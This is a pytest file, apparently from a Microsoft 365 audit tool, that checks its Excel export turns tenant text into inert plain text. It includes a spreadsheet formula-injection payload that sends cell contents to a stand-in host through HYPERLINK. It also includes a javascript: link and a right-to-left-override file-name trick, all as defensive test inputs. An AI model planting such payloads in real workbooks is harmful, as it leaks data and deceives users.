"""Whatever a tenant calls things, the workbook shows it as text and Excel runs none of it."""

import re
from datetime import UTC, date, datetime, timedelta, timezone
from html import unescape
from pathlib import Path

import pytest
from hand_built import COLLECTED_AT, HOSTILE
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from written import Written, cell_texts

from m365audit.excel.cells import LONGEST_CELL, MOST_LINE_FEEDS, Alteration, Value, clean, plain
from m365audit.excel.styles import Look
from m365audit.excel.whole import save_whole
from m365audit.report.sheets import Book, Column, Page

REST = "the evidence"
FIRST_ROW = 4
# Surrogates and controls too: Microsoft has sent both.
ANY_TEXT = st.one_of(
    st.text(st.characters(), max_size=200),
    st.text(st.sampled_from("=+-@#'\t\r\n_x0041{}\x00\u202e\u200b\ufffe\ud83d"), max_size=40),
    st.sampled_from(HOSTILE),
    st.builds(str.__add__, st.sampled_from(HOSTILE), st.text(max_size=20)),
)


def write(folder: Path, texts: list[str], *, look: Look = Look.TEXT) -> Written:
    book = Book(Workbook(write_only=True), rest=REST)
    rows = [(f"row {number}", text) for number, text in enumerate(texts)]
    columns = (Column("Row", 20, look), Column("Text", 60, look))
    page = Page("Hostile", "Hostile", "Test", ("One table.",), columns, rows)
    book.lay(book.sheet(page.title), page)
    path = folder / "hostile.xlsx"
    save_whole(book.workbook, path, when=COLLECTED_AT)
    return Written(path)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(ANY_TEXT, min_size=1, max_size=6))
def test_any_text_survives_the_workbook_as_text(tmp_path: Path, texts: list[str]) -> None:
    written = write(tmp_path, texts, look=Look.RAW)
    (xml,) = written.sheet_parts()
    assert not re.search(r"<f[ >/]", xml)
    cleaned = {f"B{row}": clean(text, rest=REST).text for row, text in enumerate(texts, start=FIRST_ROW)}
    shown = {address: text for address, text in cell_texts(xml).items() if address in cleaned}
    assert shown == {address: text for address, text in cleaned.items() if text}
    for cell in written.book["Hostile"]["B"][3:]:
        if cell.value is not None:
            assert cell.data_type == "s"
            assert cell.quotePrefix


def test_the_hostile_corpus_neither_runs_nor_links_nor_breaks(tmp_path: Path) -> None:
    written = write(tmp_path, list(HOSTILE), look=Look.RAW)
    (xml,) = written.sheet_parts()
    assert "<f>" not in xml
    assert 't="e"' not in xml
    assert "hyperlink" not in xml
    assert not [name for name in written.parts if "external" in name.lower()]
    assert not [body for name, body in written.parts.items() if name.endswith(".rels") and b"External" in body]
    texts = cell_texts(xml)
    shown = [texts[f"B{row}"] for row in range(FIRST_ROW, FIRST_ROW + len(HOSTILE))]
    unchanged = [text for text in HOSTILE if text in shown]
    assert '=HYPERLINK("https://example.test/?"&A1,"Minutes")' in unchanged
    assert "_x000D_ and _x0041_x0042_ and _x005F_x0041_" in unchanged
    assert "Tŷ Ŵyn Cyngor â Siân Llŷr" in unchanged


def test_a_link_in_a_tenants_text_is_text(tmp_path: Path) -> None:
    written = write(tmp_path, ["https://example.test/x", "mailto:a@b.test", "\\\\server\\share", "javascript:1"])
    assert all(cell.hyperlink is None for row in written.book["Hostile"].iter_rows() for cell in row)


def test_text_stays_text_when_the_file_is_saved_again(tmp_path: Path) -> None:
    written = write(tmp_path, ["=1+1", "#N/A"])
    again = tmp_path / "again.xlsx"
    written.book.save(again)
    cells = load_workbook(again)["Hostile"]["B"][3:]
    assert [(cell.value, cell.data_type, bool(cell.quotePrefix)) for cell in cells] == [
        ("=1+1", "s", True),
        ("#N/A", "s", True),
    ]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        pytest.param("a\r\nb\rc", "a\nb\nc", id="line breaks of every kind become line feeds"),
        pytest.param("a\x00b", "a\ufffdb", id="a control character"),
        pytest.param("a\x85b", "a\ufffdb", id="a control character of the second set"),
        pytest.param("exe.\u202ecod", "exe.\ufffdcod", id="a right-to-left override"),
        pytest.param("a\u2066b\u2069", "a\ufffdb\ufffd", id="an isolate"),
        pytest.param("ad\u200bmin", "ad\ufffdmin", id="a zero-width space"),
        pytest.param("ad\u00admin", "ad\ufffdmin", id="a soft hyphen"),
        pytest.param("a\U000e0041b", "a\ufffdb", id="a tag character"),
        pytest.param("a\ufffeb\uffff", "a\ufffdb\ufffd", id="what is no character"),
        pytest.param("a\ud83db", "a\ufffdb", id="half a surrogate pair"),
        pytest.param("a\tb", "a\tb", id="a tab stays"),
        pytest.param("Tŷ 🎉 \u00a0", "Tŷ 🎉 \u00a0", id="accents, emoji and a hard space stay"),
    ],
)
def test_what_cannot_be_seen_is_made_visible(text: str, shown: str) -> None:
    cleaned = clean(text, rest=REST)
    assert cleaned.text == shown
    assert (Alteration.REPLACED in cleaned.alterations) == ("\ufffd" in shown)


@given(ANY_TEXT)
def test_cleaning_again_changes_nothing(text: str) -> None:
    once = clean(text, rest=REST)
    assert clean(once.text, rest=REST) == type(once)(once.text)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("x" * 32_768, id="one letter too many"),
        pytest.param("🎉" * 20_000, id="emoji count twice"),
        pytest.param("_x0041_" * 4_000, id="spelt-out characters count as they are written"),
    ],
)
def test_too_long_a_text_is_cut_and_says_where_the_rest_is(tmp_path: Path, text: str) -> None:
    cleaned = clean(text, rest=REST)
    assert cleaned.alterations == (Alteration.CUT,)
    assert cleaned.text.endswith("(cut here; the whole text is in the evidence)")
    (xml,) = write(tmp_path, [text], look=Look.RAW).sheet_parts()
    raw = unescape(max(re.findall(r"<t[^>]*>([^<]*)</t>", xml), key=len))
    assert len(raw.encode("utf-16-le")) // 2 <= LONGEST_CELL
    assert cell_texts(xml)[f"B{FIRST_ROW}"] == cleaned.text


def test_the_longest_text_that_fits_is_left_alone() -> None:
    assert clean("x" * LONGEST_CELL, rest=REST).alterations == ()


def test_more_line_feeds_than_a_cell_holds_become_spaces() -> None:
    cleaned = clean("\n".join("abc" for _ in range(300)), rest=REST)
    assert cleaned.text.count("\n") == MOST_LINE_FEEDS
    assert cleaned.text.endswith("abc abc abc")
    assert cleaned.alterations == (Alteration.JOINED,)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        pytest.param(datetime(2026, 7, 1, 23, 30, tzinfo=UTC), datetime(2026, 7, 2, 0, 30), id="summer time"),  # noqa: DTZ001
        pytest.param(datetime(2026, 12, 1, 23, 30, tzinfo=UTC), datetime(2026, 12, 1, 23, 30), id="winter time"),  # noqa: DTZ001
        pytest.param(
            datetime(2026, 12, 1, 1, 0, tzinfo=timezone(timedelta(hours=2))),
            datetime(2026, 11, 30, 23, 0),  # noqa: DTZ001
            id="another zone",
        ),
        pytest.param(datetime(1, 1, 1, tzinfo=UTC), "0001-01-01T00:00:00+00:00", id="Microsoft's word for never"),
        pytest.param(date(1601, 1, 1), "1601-01-01", id="a date before Excel's first"),
        pytest.param(10**15, "1000000000000000", id="more digits than Excel keeps"),
        pytest.param(318, 318, id="a count"),
        pytest.param(True, True, id="yes"),
        pytest.param(None, None, id="nothing"),
    ],
)
def test_values_are_written_as_the_united_kingdom_reads_them(value: Value, shown: Value) -> None:
    assert plain(value) == shown


@pytest.mark.parametrize(
    "value",
    [
        pytest.param(float("nan"), id="not a number"),
        pytest.param(1.5, id="a fraction"),
        pytest.param(b"bytes", id="bytes"),
        pytest.param([1], id="a list"),
        pytest.param(datetime(2026, 1, 1), id="a time without a zone"),  # noqa: DTZ001
    ],
)
def test_what_excel_would_lose_without_a_word_is_refused(value: object) -> None:
    with pytest.raises(TypeError):
        plain(value)  # type: ignore[arg-type]
